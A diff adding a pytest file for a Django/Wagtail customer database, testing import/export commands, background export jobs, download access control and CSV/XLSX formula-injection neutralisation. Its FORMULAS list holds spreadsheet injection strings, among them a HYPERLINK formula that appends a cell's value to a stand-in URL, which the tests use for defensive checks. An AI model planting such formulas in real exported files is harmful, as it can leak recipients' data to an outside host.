@@ -1,0 +1,121 @@
+"""Import and export from the shell, large exports in the background, and export safety."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+from django.core.management import CommandError, call_command
+
+from tests.conftest import customer_url, make_customer
+from tests.import_files import csv_bytes, xlsx_bytes
+from wagtail_clientdb import overrides
+from wagtail_clientdb.models import Customer, ExportJob
+
+
+@pytest.fixture
+def superuser(django_user_model):
+    return django_user_model.objects.create_superuser("root", "root@example.com", "pw")
+
+
+def write(tmp_path, name, data):
+    path = tmp_path / name
+    path.write_bytes(data)
+    return str(path)
+
+
+def test_import_command_dry_run_then_import(superuser, tmp_path, branch_a, capsys):
+    path = write(tmp_path, "k.xlsx", xlsx_bytes([["Name", "Email", "Kundenfarbe"], ["Anna Schmidt", "anna@example.com", "blau"]]))
+    call_command("clientdb_import", path, "--dry-run")
+    out = capsys.readouterr()
+    assert "Dry run, nothing written: 1 new, 0 updated, 0 unchanged, 0 refused." in out.out
+    assert "'Kundenfarbe' is ignored" in out.err
+    assert not Customer.objects.exists()
+    call_command("clientdb_import", path, "--share-with", "alpha", "--map", "Kundenfarbe=notes")
+    anna = Customer.objects.get()
+    assert (anna.notes, list(anna.branches.all()), anna.is_global) == ("blau", [branch_a], True)
+
+
+def test_import_command_as_a_branch_and_all_or_nothing(superuser, tmp_path, branch_a, capsys):
+    path = write(tmp_path, "k.csv", csv_bytes([["Name", "Email"], ["Anna", "anna@example.com"], ["Bad", "nope"]]))
+    with pytest.raises(CommandError, match="Nothing was imported"):
+        call_command("clientdb_import", path, "--branch", "alpha")
+    assert "line 3, Email" in capsys.readouterr().out
+    assert not Customer.objects.exists()
+    call_command("clientdb_import", path, "--branch", "alpha", "--valid-rows-only")
+    assert Customer.objects.get().home_branch == branch_a
+
+
+def test_import_command_refuses_bad_files_and_wrong_formats(superuser, tmp_path):
+    with pytest.raises(CommandError, match="PNG"):
+        call_command("clientdb_import", write(tmp_path, "x.xlsx", b"\x89PNG\r\n\x1a\n" + b"0" * 50))
+    with pytest.raises(CommandError, match="not XLSX"):
+        call_command("clientdb_import", write(tmp_path, "x.xlsx", csv_bytes([["Name"], ["Anna"]])), "--format", "xlsx")
+
+
+def test_export_command(superuser, branch_a, branch_b, tmp_path, capsys):
+    shared = make_customer(first_name="Anna", last_name="Shared", email="anna@example.com", shared_with_all_branches=True, marketing_consent=True)
+    make_customer(first_name="Bert", last_name="LocalB", email="bert@example.com", home_branch=branch_b)
+    overrides.save_local_values(shared, branch_a, {"notes": "Alpha's note"})
+    call_command("clientdb_export")
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
+    assert [row[1] for row in rows[1:]] == ["LocalB", "Shared"]
+    call_command("clientdb_export", "--branch", "alpha")
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
+    assert [(row[1], row[4]) for row in rows[1:]] == [("Shared", "Alpha's note")]
+    call_command("clientdb_export", "--consent", "no")
+    assert "Shared" not in capsys.readouterr().out
+    path = tmp_path / "all.xlsx"
+    call_command("clientdb_export", "--format", "xlsx", "--output", str(path), "--search", "anna")
+    sheet = openpyxl.load_workbook(path).active
+    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Shared"]
+
+
+def test_large_exports_run_in_the_background(login, manager, settings, branch_a):
+    settings.WAGTAIL_CLIENTDB = {"EXPORT_BACKGROUND_ROWS": 2}
+    for i in range(3):
+        make_customer(first_name=f"P{i}", last_name="Person", email=f"p{i}@example.com", branches=[branch_a])
+    make_customer(first_name="Other", email="other@example.com")
+    client = login(manager)
+    response = client.get(customer_url("list"), {"export": "csv", "branch": branch_a.pk})
+    job = ExportJob.objects.get()
+    assert response.url == customer_url("export_job", job.pk)
+    assert job.status == "exported"  # the immediate backend ran it
+    page = client.get(response.url).content.decode()
+    assert "data-clientdb-export-download" in page
+    body = b"".join(client.get(customer_url("export_download", job.pk)).streaming_content).decode("utf-8-sig")
+    assert body.count("@example.com") == 3 and "other@" not in body
+
+
+def test_other_users_cannot_fetch_an_export(login, manager, staff_a, settings):
+    settings.WAGTAIL_CLIENTDB = {"EXPORT_BACKGROUND_ROWS": 0}
+    make_customer(first_name="Anna", shared_with_all_branches=True)
+    login(manager).get(customer_url("list"), {"export": "xlsx"})
+    job = ExportJob.objects.get()
+    assert login(staff_a).get(customer_url("export_download", job.pk)).status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A2,"y")', "==1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"]
+
+
+def test_exports_neutralise_formulas_and_keep_values(login, manager):
+    for index, text in enumerate(FORMULAS):
+        make_customer(first_name=f"F{index:02d}", last_name=text, email=f"f{index}@example.com", shared_with_all_branches=True)
+    make_customer(first_name="Ctrl", last_name="a\x0bb\x1fc", email="ctrl@example.com", phone_raw="+49 170 1234567", shared_with_all_branches=True)
+    client = login(manager)
+    body = b"".join(client.get(customer_url("list"), {"export": "csv"}).streaming_content)
+    assert body.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the umlauts right
+    rows = {row[0]: row for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))}
+    for index, text in enumerate(FORMULAS):
+        assert rows[f"F{index:02d}"][1] == "'" + text
+    assert rows["Ctrl"][3] == "'+49 170 1234567"
+
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(customer_url("list"), {"export": "xlsx"}).streaming_content)))
+    cells = {row[0].value: row for row in workbook.active.iter_rows(min_row=2)}
+    for index, text in enumerate(FORMULAS):
+        cell = cells[f"F{index:02d}"][1]
+        # Typed as text, never a formula, and the value itself is left as stored
+        # (XML reads a carriage return back as a line feed).
+        assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
+    assert cells["Ctrl"][1].value == "abc"
+    assert cells["Ctrl"][6].value == 0 and cells["Ctrl"][6].data_type == "n"  # numbers stay numbers
